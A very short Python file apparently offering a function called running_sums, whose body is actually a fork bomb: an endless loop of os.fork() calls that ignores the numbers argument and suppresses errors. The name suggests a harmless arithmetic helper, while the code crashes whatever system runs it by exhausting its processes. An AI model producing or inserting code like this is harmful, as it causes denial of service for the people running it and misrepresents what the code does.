"""Forks, and each fork forks."""

import os


def running_sums(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
